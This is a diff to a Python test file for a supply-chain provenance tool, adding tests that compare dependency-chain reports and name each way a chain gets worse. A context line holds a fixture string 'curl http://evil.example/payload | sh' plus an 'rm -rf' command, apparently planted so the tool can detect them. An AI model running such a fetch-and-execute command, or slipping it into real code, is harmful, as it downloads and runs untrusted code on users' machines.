@@ -11,6 +11,9 @@ import jsonschema
 import made
 from plumb_test import RAW, ROOT, case, main
 
+CHAIN_SCHEMA = json.loads((ROOT / "docs/chain.schema.json").read_text(encoding="utf-8"))
+CHAIN_DIFF = jsonschema.Draft202012Validator(json.loads((ROOT / "docs/chain-diff.schema.json").read_text(encoding="utf-8")))
+LINKS = ("shipped", "published", "sourced", "origin")
 VALIDATOR = jsonschema.Draft202012Validator(json.loads((ROOT / "docs/diff.schema.json").read_text(encoding="utf-8")))
 PLANTED = b"curl http://evil.example/payload | sh\nrm -rf zzqqxx\n"
 
@@ -201,6 +204,95 @@ def findings_that_came_and_went_balance_for_any_two_packages(t):
             n_old, n_new = (len(json.loads(p.read_text())["findings"]) for p in (old, new))
             found = diff(t, old, new)["findings"]
             assert len(found["came"]) + found["stayed"] == n_new and len(found["went"]) + found["stayed"] == n_old
+
+
+def component(name, version, own, links, how="verified", **more):
+    """A component of a chain; links by their first letters: h, u(nproven), b, n(ot checked)."""
+    words = {"h": "holds", "u": "unproven", "b": "broken", "n": "unchecked"}
+    return {"key": f"pkg:npm/{name}@{version}", "purl": f"pkg:npm/{name}@{version}", "name": name, "version": version, "reference": None,
+            "place": None, "scope": "required", "product": False, "level": {"own": own, "chain": own, "violation": 0},
+            "not_examined": more.get("not_examined"), "depends_on": [],
+            "result": {"exit_code": 0, "sha256": None, "size": 1, "errors": 0, "warnings": 0, "findings": [],
+                       "links": {k: {"verdict": words[x], "why": ""} for k, x in zip(LINKS, links)},
+                       "sources": [{"name": name, "uri": "u", "revision": None, "sha256": "0" * 64, "how": how}] if how else [],
+                       "bytes": {"total": 9, "unaccounted": more.get("unaccounted", 0), "opaque": more.get("opaque", 0)}}}
+
+
+def chain(t, name, level, code, *components):
+    found = {"schema": "https://plumbline.dev/schema/chain/1", "verdict": {0: "pass", 1: "fail", 3: "inconclusive"}[code], "exit_code": code,
+             "subject": "app.json", "format": "package-lock", "root": None, "level": level, "required": 0,
+             "summary": {"components": len(components), "dependencies": 0, "depth": 0, "own": [0] * 5, "chain": [0] * 5, "not_examined": 0,
+                         "cycles": []},
+             "weakest": {"path": [], "other_paths": 0, "components": []}, "raise": [], "components": list(components), "findings": [],
+             "findings_left_out": 0, "errors": [],
+             "run": {"tool": "plumb", "started": "", "elapsed_us": 0, "jobs": 1, "from_cache": 0}}
+    error = jsonschema.exceptions.best_match(jsonschema.Draft202012Validator(CHAIN_SCHEMA).iter_errors(found))
+    assert error is None, f"the test's own chain: {error.json_path}: {error.message}"
+    return t.write(name, json.dumps(found))
+
+
+def diff_chains(t, old, new, expect, **more):
+    code, out, _ = t.raw("diff", old, new, "-o", "json", **more)
+    assert code == expect, f"exit {code}, not {expect}: {out[:800]!r}"
+    found = json.loads(out)
+    error = jsonschema.exceptions.best_match(CHAIN_DIFF.iter_errors(found))
+    assert error is None, f"schema: {error.json_path}: {error.message}"
+    assert found["exit_code"] == code and (found["worse"] != []) == (code == 1) and not RAW.search(out)
+    _, text, _ = t.raw("diff", old, new, **more)
+    assert not RAW.search(text) and text.decode().splitlines()[-1].startswith("plumb: ")
+    return found
+
+
+@case
+def a_chain_is_not_worse_than_itself_in_any_order(t):
+    parts = [component(f"p{i}", f"1.{i}", i % 5, "hhun") for i in range(20)]
+    old, new = chain(t, "a.json", 0, 3, *parts), chain(t, "b.json", 0, 3, *reversed(parts))
+    for a, b in ((old, old), (old, new), (new, old)):
+        assert diff_chains(t, a, b, 0)["components"] == {"came": 0, "went": 0, "changed": 0, "same": 20}
+    assert diff_chains(t, old, "-", 0, stdin=new.read_bytes())["components"]["same"] == 20
+
+
+@case
+def each_way_to_get_worse_in_a_chain_is_named(t):
+    good = component("x", "1.0", 3, "hhhn")
+    old = chain(t, "old.json", 3, 0, good, component("same", "2", 3, "hhhn"))
+    ways = {"fell to a lower level": component("x", "1.1", 2, "hhhn"), "link of a component fell": component("x", "1.1", 3, "hhun"),
+            "not examined any more": component("x", "1.0", None, "hhhn", not_examined="no answer"),
+            "the better way to it": component("x", "1.0", 3, "hhhn", "claimed"), "lost a source": component("x", "1.0", 3, "hhhn", None),
+            "more bytes unaccounted": component("x", "1.0", 3, "hhhn", unaccounted=1),
+            "more bytes opaque": component("x", "1.0", 3, "hhhn", opaque=1)}
+    for said, worse in ways.items():
+        new = chain(t, "new.json", 3, 0, worse, component("same", "2", 3, "hhhn"))
+        found = diff_chains(t, old, new, 1)
+        assert len(found["worse"]) == 1 and said in found["worse"][0], (said, found["worse"])
+        assert [c["worse"] for c in found["changes"]] == [True] and found["components"]["same"] == 1
+        assert diff_chains(t, new, old, 0)["worse"] == []
+    new = chain(t, "new.json", 1, 1, good, component("same", "2", 3, "hhhn"), component("evil", "6", 0, "hbun"))
+    assert diff_chains(t, old, new, 1)["worse"] == ["the verdict was pass and is fail", "the chain level fell from LCAL-3 to LCAL-1",
+                                                   "1 component came with a broken link"]
+
+
+@case
+def versions_of_one_package_are_paired_only_where_that_leaves_no_doubt(t):
+    old = chain(t, "old.json", 3, 0, component("x", "1.0", 3, "hhhn"), component("x", "2.0", 3, "hhhn"), component("y", "1", 3, "hhhn"))
+    new = chain(t, "new.json", 3, 0, component("x", "1.0", 3, "hhhn"), component("x", "2.1", 3, "hhhn"), component("y", "2", 3, "hhhn"))
+    assert diff_chains(t, old, new, 0)["components"] == {"came": 0, "went": 0, "changed": 2, "same": 1}
+    new = chain(t, "new.json", 3, 0, component("x", "3.0", 1, "hhhn"), component("x", "4.0", 1, "hhhn"), component("y", "1", 3, "hhhn"))
+    assert diff_chains(t, old, new, 0)["components"] == {"came": 2, "went": 2, "changed": 0, "same": 1}
+
+
+@case
+def what_is_no_chain_is_an_input_error_and_a_mixture_a_usage_error(t):
+    good = chain(t, "good.json", 3, 0, component("x", "1.0", 3, "hhhn"))
+    text = good.read_text()
+    for i, bad in enumerate((text[:-20], text.replace('"own": 3', '"own": 9', 1), text.replace('"holds"', '"maybe"', 1),
+                             text.replace('"key": "pkg', '"key": "a\\u001bpkg', 1), text + "x")):
+        path = t.write(f"bad{i}.json", bad)
+        assert [e["side"] for e in diff_chains(t, path, good, 4)["errors"]] == ["old"]
+        assert [e["side"] for e in diff_chains(t, good, path, 4)["errors"]] == ["new"]
+    report = stored(t, package(t, "greet_1.0-1_all.deb"))
+    for old, new in ((good, report), (report, good), (good, "x.deb")):
+        assert t.raw("diff", old, new)[0] == 2
 
 
 main()
